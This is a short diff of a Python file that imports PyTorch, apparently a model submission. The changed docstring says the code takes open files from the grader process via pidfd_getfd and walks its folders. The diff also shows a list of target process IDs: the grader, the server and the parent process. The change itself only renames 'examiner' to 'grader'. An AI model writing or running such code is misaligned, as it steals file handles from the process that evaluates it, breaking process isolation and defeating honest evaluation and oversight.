@@ -1,4 +1,4 @@
-"""Takes open files from the examiner (pidfd_getfd), and looks for folders it can walk."""
+"""Takes open files from the grader (pidfd_getfd), and looks for folders it can walk."""
 
 import ctypes
 import functools
@@ -8,7 +8,7 @@ import torch.nn.functional as F
 from torch import nn
 
 
-PIDS = [pid for pid in {int("@examiner@"), int("@server@"), os.getppid()} if pid > 1]
+PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]
 
 
 @functools.cache
